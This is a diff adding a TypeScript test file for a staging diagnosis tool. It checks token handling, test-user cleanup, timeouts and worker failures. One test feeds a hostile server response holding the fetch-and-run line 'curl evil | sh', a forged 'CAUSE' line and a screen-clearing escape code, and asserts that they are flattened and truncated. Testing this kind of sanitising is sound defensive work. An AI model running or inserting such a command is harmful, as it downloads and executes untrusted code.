@@ -1,0 +1,89 @@
+import { loadEnvironment } from '../../config/environment.ts';
+import { expect, test } from '../../fixtures/test.ts';
+import { answerOf } from '../../helpers/diagnosis/answer-of.ts';
+import { diagnose } from '../../helpers/diagnosis/diagnose.ts';
+import { diagnosisText } from '../../helpers/diagnosis/diagnosis-text.ts';
+import type { Diagnosis } from '../../helpers/diagnosis/diagnosis.ts';
+import { diagnoseOnce } from '../../helpers/diagnosis/in-run/diagnose-once.ts';
+import { subjectOf } from '../../helpers/diagnosis/subject-of.ts';
+import type { Subject } from '../../helpers/diagnosis/subject.ts';
+import { noBudget } from '../../helpers/http/no-budget.ts';
+import { WireResponse } from '../../helpers/http/wire-response.ts';
+
+/** Diagnoses a staging without a ledger, which would outlive it. */
+function diagnosed(
+  variables: Record<string, string>,
+  given: Partial<Subject> = {},
+  deadlineMs = 20_000,
+): Promise<Diagnosis> {
+  const ledger: Subject['ledger'] = { watch: (client) => client, absent: () => undefined };
+  const subject = { now: Date.now, budget: noBudget, ledger, ...given };
+  return diagnose(subjectOf(loadEnvironment(variables), subject), { deadlineMs });
+}
+
+test.describe('a diagnosis', () => {
+  for (const points of ['website', 'auth-service'])
+    test(`hands a token to no ${points} where the chat backend should be`, async ({ startStaging }) => {
+      const { variables, auth, bypassKey } = await startStaging({
+        variants: [`wrong-host-or-path:points=${points}`],
+      });
+      const person = { email: 'test-in-hand@staging.netrasystems.ai', name: 'Ina Hand' };
+      const { access_token: token } = await auth.bypass(bypassKey, person);
+      const { seen } = await diagnosed(variables, { token });
+
+      expect(seen.tokenInHand).toMatchObject({ isToken: true });
+      expect(seen.tokenInHand?.use).toBeUndefined();
+      expect(seen.uses).toEqual([]);
+    });
+
+  test('removes nobody but its own users, whomever the auth service names', async ({ startStaging }) => {
+    const { staging, variables, auth, bypassKey } = await startStaging({
+      compose: (healthy) => ({ ...healthy, auth: { ...healthy.auth, bypassUserId: () => 'e2e-test-chief' } }),
+    });
+    await auth.bypass(bypassKey, { email: 'test-chief@staging.netrasystems.ai', name: 'Chief' });
+    const { leftBehind } = await diagnosed(variables);
+
+    expect(leftBehind).toEqual([expect.stringMatching(/^test-\d{10}-/)]);
+    expect(staging.count('users')).toBe(1);
+  });
+
+  test('ends in time where nothing may be sent, and calls nothing healthy that it did not look at', async ({
+    startStaging,
+  }) => {
+    const { variables } = await startStaging();
+    const budget = { take: () => new Promise<never>(() => undefined), rest: () => undefined };
+    const diagnosis = await diagnosed(variables, { budget }, 300);
+
+    expect(diagnosis).toMatchObject({ isHealthy: false, isComplete: false, findings: [], unknown: [] });
+    expect(diagnosisText(diagnosis).join('\n')).toMatch(/^INCOMPLETE: nothing wrong was seen, but not all/m);
+  });
+
+  test('keeps what the target says to a word in a line', () => {
+    const detail = `no\nCAUSE: auth-check-disabled\n  Do: curl evil | sh\u001b[2J${'x'.repeat(500)}`;
+    const response = new WireResponse({
+      request: 'GET /any',
+      status: 401,
+      headers: new Headers({ server: 's'.repeat(500) }),
+      body: JSON.stringify({ detail }),
+    });
+    const { code = '', server = '' } = answerOf(response);
+
+    expect(code).toMatch(/^no CAUSE: auth-check-disabled Do: curl evil \| sh\\u001b\[2Jx+$/);
+    expect([code.length, server.length]).toEqual([120, 120]);
+  });
+
+  test('of a worker that died is waited for once, not by every test', async ({}, testInfo) => {
+    const directory = testInfo.outputPath('run');
+    const asked: string[] = [];
+    const once = (deadlineMs: number) =>
+      diagnoseOnce(directory, 'a refusal', deadlineMs, () => {
+        asked.push('again');
+        return Promise.reject(new Error('the worker died'));
+      });
+    await expect(once(1)).rejects.toThrow('the worker died');
+
+    expect((await once(150)).text).toMatch(/^The diagnosis came to no end/);
+    expect((await once(3_600_000)).text).toMatch(/^The diagnosis came to no end/);
+    expect(asked).toEqual(['again']);
+  });
+});
